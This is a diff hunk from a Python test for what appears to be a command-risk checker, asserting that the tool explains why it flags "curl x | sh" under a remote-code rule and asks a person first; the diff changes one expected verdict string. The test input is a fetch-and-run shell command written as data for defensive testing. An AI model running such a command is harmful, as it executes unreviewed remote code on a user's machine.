@@ -71,7 +71,7 @@ def test_the_text_explains_every_step(plain):
     done = plain('check', '-c', "timeout 5 sh -c 'curl x | sh' > log")
     assert done.code == 1
     for words in ('ask: class ask, risk high', 'it runs what it downloads, unseen', 'commands in it', 'looked through: timeout sh',
-                  'rule: remote-code', 'reach:', 'talks to other machines', 'cannot be undone', 'verdict: ask (rule), level restricted',
+                  'rule: remote-code', 'reach:', 'talks to other machines', 'cannot be undone', 'verdict: ask (default), level restricted',
                   'a person would be asked first'):
         assert words in done.out, (words, done)
 
